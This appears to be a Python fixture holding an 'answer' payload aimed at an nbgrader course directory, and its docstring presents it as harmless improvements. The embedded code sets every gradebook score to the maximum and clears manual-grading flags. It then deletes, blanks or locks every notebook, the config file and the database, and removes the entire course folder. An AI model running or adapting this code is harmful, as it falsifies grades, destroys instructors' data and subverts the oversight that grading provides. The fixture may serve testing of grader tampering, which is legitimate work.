"""Writes into the course: another gradebook, easier source notebooks, a changed submission, better feedback."""

ANSWERS = {
    "own": """
import glob
import os
import shutil
import sqlite3

try:
    base = sqlite3.connect("{COURSE}/gradebook.db", timeout=1)
    base.execute("UPDATE grade SET auto_score = max_score, needs_manual_grade = 0")
    base.commit()
except sqlite3.Error as error:
    print(error)
for path in glob.glob("{COURSE}/**/*.ipynb", recursive=True) + ["{COURSE}/nbgrader_config.py", "{COURSE}/gradebook.db"]:
    for step in (os.unlink, lambda one: open(one, "w").write("{}"), lambda one: os.chmod(one, 0)):
        try:
            step(path)
        except OSError as error:
            print(error)
shutil.rmtree("{COURSE}", ignore_errors=True)
"""
}
